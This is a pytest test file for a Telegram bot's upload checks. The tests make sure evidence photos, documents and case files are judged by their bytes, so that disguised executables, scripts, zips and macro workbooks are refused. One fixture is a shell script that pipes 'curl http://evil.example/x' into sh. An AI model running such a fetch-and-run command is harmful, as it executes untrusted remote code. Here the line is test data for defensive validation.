"""Uploads recognised by their bytes (bot.core.uploads): a table of real and disguised files,
then the refusals through the real flows: evidence for a workflow step, a yearly duty's
document, a case file sent in chat and one given to the command line. A refused file is
answered with what was expected, and nothing is kept or changed."""

from __future__ import annotations

import io
import shutil
import struct
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import docx
import openpyxl
import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.app import build_application, build_deps
from bot.core import uploads
from bot.core.casefile import read_case_bytes, read_case_file
from bot.core.clock import ManualClock
from bot.core.i18n import DubanError, get_translator
from bot.core.org import Org
from bot.core.policy.catalog import Catalog
from bot.core.uploads import CASE_FILE, EVIDENCE, PHOTO, FileType, UploadRefused, check, detect
from bot.settings import Settings, load_settings
from tests.bot_harness import TOKEN, Bot
from tests.telegram_fakes import RecordingRequest, Users
from tests.test_bot_app import COORDINATOR, ENV_LIAISON, ENVIRONMENT, bind_all, new_case
from tests.test_evidence import accepted_case

ZH = get_translator("zh_CN")
EN = get_translator("en")
TODAY = date(2026, 6, 1)
CSV = ("ref,county,enterprise,industry,clause,capacity,unit,registered_on,description\n"
       "U-1,奇台县,奇台测试煤矿,coal,九,45,万吨/年,2026-03-01,关停退出\n")


# -- files to recognise ------------------------------------------------------------------------


def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_paragraph("整改通知")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(rows: list[list[object]] | None = None) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows or [["ref"], ["U-1"]]:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(package: bytes, *, add: dict[str, bytes] | None = None,
          content_types: bytes | None = None, drop: str | None = None) -> bytes:
    """The OOXML package with parts added, dropped, or its content types replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename == drop:
                continue
            data = source.read(item)
            if item.filename == "[Content_Types].xml" and content_types is not None:
                data = content_types
            target.writestr(item, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def plain_zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def compound_file(*names: str) -> bytes:
    """A minimal OLE2 compound file (MS-CFB, 512-byte sectors) whose directory holds ``names``
    (streams, under the root entry): sector 0 is the FAT, sector 1 the directory."""
    def entry(name: str, kind: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
                + b"\xff" * 12 + b"\0" * 48).ljust(128, b"\0")

    entries = [entry("Root Entry", 5), *(entry(name, 2) for name in names)]
    assert len(entries) <= 4
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9)  # version 3, 512 bytes
    struct.pack_into("<H", header, 0x20, 6)
    struct.pack_into("<I", header, 0x2C, 1)  # one FAT sector
    struct.pack_into("<I", header, 0x30, 1)  # the directory starts at sector 1
    struct.pack_into("<I", header, 0x38, 4096)
    struct.pack_into("<IIII", header, 0x3C, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *([0xFFFFFFFF] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    directory = b"".join(entries).ljust(512, b"\0")
    return bytes(header) + fat + directory


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"\x80\x00\x00\x00" + b"\x00" * 64 \
    + b"PE\x00\x00" + b"\x00" * 100
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + bytes(range(256))
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32)

DOCX, XLSX = docx_bytes(), xlsx_bytes()
MACRO_WORKBOOK = rezip(XLSX, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})
PRESENTATION_TYPES = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                      b'package/2006/content-types"><Override PartName="/ppt/presentation.xml" '
                      b'ContentType="application/vnd.openxmlformats-officedocument.'
                      b'presentationml.presentation.main+xml"/></Types>')


@pytest.mark.parametrize(("content", "expected"), [
    (PDF, FileType.PDF),
    (JPEG, FileType.JPEG),
    (PNG, FileType.PNG),
    (WEBP, FileType.WEBP),
    (DOCX, FileType.DOCX),
    (XLSX, FileType.XLSX),
    (rezip(DOCX, add={"word/vbaProject.bin": b"macros"}), FileType.DOCM),
    (MACRO_WORKBOOK, FileType.XLSM),
    (compound_file("WordDocument", "1Table"), FileType.DOC),
    (compound_file("Workbook"), FileType.XLS),
    (compound_file("WordDocument", "Macros"), FileType.OLE),  # a .doc with macros
    (compound_file("EncryptedPackage"), FileType.OLE),  # a password-protected .docx
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, FileType.OLE),  # damaged
    (CSV.encode(), FileType.TEXT),
    (("\ufeff" + CSV).encode(), FileType.TEXT),
    (CSV.encode("gb18030"), FileType.TEXT),  # what Excel saves on a Chinese Windows
    (b"ref\tcounty\r\nU-1\t\xe5\xa5\x87\xe5\x8f\xb0\r\n\x1a", FileType.TEXT),
    (b"MZ,header\n1,2\n", FileType.TEXT),  # text that happens to begin with MZ
    # disguised or unwanted
    (ELF, FileType.PROGRAM),
    (PE, FileType.PROGRAM),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64), FileType.PROGRAM),  # Mach-O
    (SCRIPT, FileType.SCRIPT),
    ("\ufeff#!/usr/bin/env python3\n".encode(), FileType.SCRIPT),  # a BOM hides nothing
    (plain_zip(**{"payload.exe": PE}), FileType.ZIP),
    (plain_zip(**{"[Content_Types].xml": b"<Types/>", "word/x.exe": PE}), FileType.ZIP),
    (rezip(DOCX, content_types=PRESENTATION_TYPES), FileType.ZIP),  # not a document
    (rezip(XLSX, drop="[Content_Types].xml"), FileType.ZIP),
    (b"PK\x03\x04 not really a zip", FileType.ZIP),
    (ELF + XLSX, FileType.PROGRAM),  # a program with a workbook appended
    (b"text with an escape \x1b[31m", FileType.UNKNOWN),
    (bytes(range(256)) * 4, FileType.UNKNOWN),
    (b"", FileType.EMPTY),
])
def test_files_are_recognised_by_their_bytes(content: bytes, expected: FileType) -> None:
    assert detect(content) is expected


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_a_real_word_97_document_is_a_doc(tmp_path: Path) -> None:
    source = tmp_path / "通知.docx"
    source.write_bytes(DOCX)
    subprocess.run(["soffice", "--headless", "--convert-to", "doc", "--outdir", str(tmp_path),
                    str(source)], check=True, capture_output=True, timeout=180)
    assert detect((tmp_path / "通知.doc").read_bytes()) is FileType.DOC


@pytest.mark.parametrize(("accepts", "taken", "refused"), [
    (PHOTO, [JPEG, PNG, WEBP], [PDF, DOCX, ELF, SCRIPT]),
    (EVIDENCE, [PDF, JPEG, PNG, DOCX, XLSX, compound_file("WordDocument")],
     [ELF, PE, SCRIPT, WEBP, MACRO_WORKBOOK, plain_zip(a=b"b"), CSV.encode(),
      compound_file("Workbook")]),
    (CASE_FILE, [CSV.encode(), XLSX, MACRO_WORKBOOK], [PDF, DOCX, ELF, SCRIPT, JPEG]),
])
def test_each_place_takes_its_own_kinds(accepts: uploads.Accepts, taken: list[bytes],
                                        refused: list[bytes]) -> None:
    for content in taken:
        assert check(content, accepts, max_bytes=uploads.MB) in accepts.types
    for content in refused:
        with pytest.raises(UploadRefused) as caught:
            check(content, accepts, max_bytes=uploads.MB, name="x.pdf")
        assert caught.value.message == accepts.refusal
        assert caught.value.found is detect(content)


def test_refusals_name_what_is_expected_and_the_limit() -> None:
    with pytest.raises(UploadRefused) as caught:
        check(ELF, EVIDENCE, max_bytes=uploads.MB, name="报告.pdf")
    zh = caught.value.render(ZH)
    assert "不接受" in zh and all(kind in zh for kind in ("PDF", "JPEG", "PNG", ".docx",
                                                          ".doc", ".xlsx"))
    assert "PDF" in caught.value.render(EN) and "whatever its name" in caught.value.render(EN)
    with pytest.raises(UploadRefused) as caught:
        check(SCRIPT, CASE_FILE, max_bytes=uploads.MB, name="cases.csv")
    assert "cases.csv" in caught.value.render(ZH) and "CSV" in caught.value.render(ZH)
    with pytest.raises(UploadRefused) as caught:
        check(PDF + bytes(uploads.MB), EVIDENCE, max_bytes=uploads.MB)
    assert caught.value.render(ZH) == "文件过大：最多 1 MB。"
    with pytest.raises(UploadRefused) as caught:
        check(b"", EVIDENCE, max_bytes=uploads.MB)
    assert caught.value.found is FileType.EMPTY


def test_max_upload_setting(tmp_path: Path) -> None:
    assert load_settings({}, cwd=tmp_path).max_upload_bytes == 20 * uploads.MB
    assert load_settings({"DUBAN_MAX_UPLOAD_MB": "50"}, cwd=tmp_path).max_upload_mb == 50
    for bad in ("0", "2001", "20MB", "-1", "1.5"):
        with pytest.raises(DubanError) as caught:
            load_settings({"DUBAN_MAX_UPLOAD_MB": bad}, cwd=tmp_path)
        assert caught.value.message.startswith("DUBAN_MAX_UPLOAD_MB")
        assert "MB" in caught.value.render(ZH) and bad in caught.value.render(ZH)


# -- evidence through the real flow -------------------------------------------------------------


def _kept(bot: Bot) -> list[Path]:
    root = bot.app.deps.evidence.root
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


async def _restrict_step(bot: Bot, ref: str) -> None:
    card = next(m for m in reversed(bot.fake.in_chat(ENVIRONMENT)) if ref in m.text
                and m.buttons())
    await bot.press(ENV_LIAISON, card, "限制生产")
    assert "证明材料" in bot.last(ENVIRONMENT).text


@pytest.mark.parametrize(("content", "name", "mime"), [
    (ELF, "整改报告.pdf", "application/pdf"),
    (PE, "现场照片.jpg", "image/jpeg"),
    (SCRIPT, "验收意见.pdf", "application/pdf"),
    (plain_zip(**{"setup.exe": PE}), "整改方案.docx",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    (MACRO_WORKBOOK, "台账.xlsx",
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
])
async def test_a_disguised_file_is_refused_as_evidence_and_nothing_is_kept(
        bot: Bot, content: bytes, name: str, mime: str) -> None:
    ref = await accepted_case(bot)
    await _restrict_step(bot, ref)
    bot.fake.files["disguised"] = content
    await bot.feed(bot.users.document(ENV_LIAISON, ENVIRONMENT, "disguised", name, mime,
                                      size=len(content)))
    asked = bot.last(ENVIRONMENT).text
    assert ZH.gettext(EVIDENCE.refusal) in asked  # what is expected …
    assert "证明材料" in asked  # … and the same question again
    assert bot.fake.called("getFile"), "judged by its bytes, so it was fetched"
    assert _kept(bot) == []
    view = await bot.app.deps.cases.get(ref)
    assert all("evidence" not in event.payload for event in view.events)
    dialog = await bot.app.deps.dialogs.current(ENVIRONMENT, ENV_LIAISON[0])
    assert dialog is not None and dialog.step == "evidence" and not dialog.data.get("evidence")

    # The real file, whatever Telegram calls it, is taken.
    bot.fake.files["real"] = DOCX
    await bot.feed(bot.users.document(ENV_LIAISON, ENVIRONMENT, "real", "方案",
                                      "application/octet-stream"))
    assert "期限是哪一天" in bot.last(ENVIRONMENT).text
    assert [p.read_bytes() for p in _kept(bot)] == [DOCX]


async def test_a_photo_that_is_no_picture_is_refused(bot: Bot) -> None:
    ref = await accepted_case(bot)
    await _restrict_step(bot, ref)
    bot.fake.files["not-a-photo"] = ELF
    await bot.feed(bot.users.photo(ENV_LIAISON, ENVIRONMENT, "not-a-photo"))
    assert ZH.gettext(PHOTO.refusal) in bot.last(ENVIRONMENT).text
    assert _kept(bot) == []


async def test_a_program_declared_as_such_is_not_even_downloaded(bot: Bot) -> None:
    ref = await accepted_case(bot)
    await _restrict_step(bot, ref)
    await bot.feed(bot.users.document(ENV_LIAISON, ENVIRONMENT, "exe", "报告.pdf",
                                      "application/x-msdownload"))
    assert ZH.gettext(uploads.SENT_AS_PROGRAM, mime="application/x-msdownload") in \
        bot.last(ENVIRONMENT).text
    assert not bot.fake.called("getFile") and _kept(bot) == []


async def _bot_with(engine: AsyncEngine, clock: ManualClock, catalog: Catalog,
                    settings: Settings) -> Bot:
    """tests.bot_harness.start_bot, with these settings."""
    deps = build_deps(settings, engine, clock, catalog)
    fake = RecordingRequest()
    app = build_application(settings, deps, request=fake)
    await app.initialize()
    await deps.chats.bootstrap_coordinators()
    return Bot(app, fake, Users(), clock)


async def test_the_size_limit_comes_from_the_settings(engine: AsyncEngine, clock: ManualClock,
                                                      catalog: Catalog, demo_org: Org,
                                                      tmp_path: Path) -> None:
    from bot.services.org import OrgService
    from models.db import session_factory

    await OrgService(session_factory(engine)).load(demo_org)
    bot = await _bot_with(engine, clock, catalog, Settings(
        telegram_bot_token=TOKEN, evidence_dir=tmp_path / "evidence", max_upload_mb=1))
    try:
        assert bot.app.deps.dialogs.max_upload_bytes == uploads.MB == bot.app.deps.max_upload_bytes
        ref = await accepted_case(bot)
        await _restrict_step(bot, ref)
        big = PDF + bytes(uploads.MB)
        bot.fake.files["big"] = big
        # Telegram said it was small; its bytes say otherwise.
        await bot.feed(bot.users.document(ENV_LIAISON, ENVIRONMENT, "big", "a.pdf",
                                          "application/pdf", size=100))
        assert "文件过大：最多 1 MB" in bot.last(ENVIRONMENT).text and _kept(bot) == []
        await bot.feed(bot.users.document(ENV_LIAISON, ENVIRONMENT, "big", "a.pdf",
                                          "application/pdf", size=len(big)))
        assert "文件过大：最多 1 MB" in bot.last(ENVIRONMENT).text
    finally:
        await bot.app.shutdown()


# -- case files -----------------------------------------------------------------------------------


async def test_a_case_file_is_recognised_by_its_bytes_in_chat(bot: Bot) -> None:
    private = COORDINATOR[0]
    bot.fake.files["evil"] = ELF
    await bot.feed(bot.users.document(COORDINATOR, private, "evil", "cases.csv", "text/csv"))
    assert "cases.csv" in bot.last(private).text and "未导入" in bot.last(private).text
    bot.fake.files["script"] = SCRIPT
    await bot.feed(bot.users.document(COORDINATOR, private, "script", "cases.xlsx",
                                      "text/csv"))
    assert "未导入" in bot.last(private).text
    assert await bot.app.deps.cases.find() == []
    # A workbook under a name that says nothing is imported all the same.
    bot.fake.files["book"] = xlsx_bytes([row.split(",") for row in CSV.splitlines()])
    await bot.feed(bot.users.document(COORDINATOR, private, "book", "导出数据",
                                      "application/octet-stream"))
    assert "新导入 1 件案件" in bot.last(private).text
    assert [c.ref for c in await bot.app.deps.cases.find()] == ["U-1"]


async def test_a_reply_with_a_file_to_the_bot_is_not_an_import(bot: Bot) -> None:
    await bind_all(bot)
    ref = await new_case(bot)
    private = COORDINATOR[0]
    asked = bot.last(private)
    bot.fake.files["sheet"] = CSV.encode()
    update = bot.users.document(COORDINATOR, private, "sheet", "cases.csv", "text/csv")
    update["message"]["reply_to_message"] = {
        "message_id": asked.message_id, "date": 1780000000, "text": asked.text,
        "chat": bot.users.chat(private), "from": {"id": 900001, "is_bot": True,
                                                   "first_name": "duban"}}
    await bot.feed(update)
    assert [c.ref for c in await bot.app.deps.cases.find()] == [ref]


def test_a_case_file_is_read_by_its_bytes_not_its_name(demo_org: Org, tmp_path: Path) -> None:
    # A CSV called .xlsx is read as CSV; a workbook called .csv as a workbook.
    workbook = xlsx_bytes([row.split(",") for row in CSV.splitlines()])
    for content, name in ((CSV.encode(), "cases.xlsx"), (workbook, "cases.csv")):
        result = read_case_bytes(content, name, demo_org, today=TODAY)
        assert [c.ref for c in result.valid] == ["U-1"], name
    # The command line: a renamed program is refused before anything is read.
    disguised = tmp_path / "cases.xlsx"
    disguised.write_bytes(ELF)
    with pytest.raises(UploadRefused) as caught:
        read_case_file(disguised, demo_org, today=TODAY)
    assert caught.value.found is FileType.PROGRAM
    assert "cases.xlsx" in caught.value.render(EN) and "CSV" in caught.value.render(EN)
    with pytest.raises(DubanError, match="old Excel"):
        read_case_bytes(compound_file("Workbook"), "cases.xlsx", demo_org, today=TODAY)
    with pytest.raises(DubanError, match="too large"):
        read_case_bytes(CSV.encode() * 100, "cases.csv", demo_org, today=TODAY,
                        max_bytes=1000)
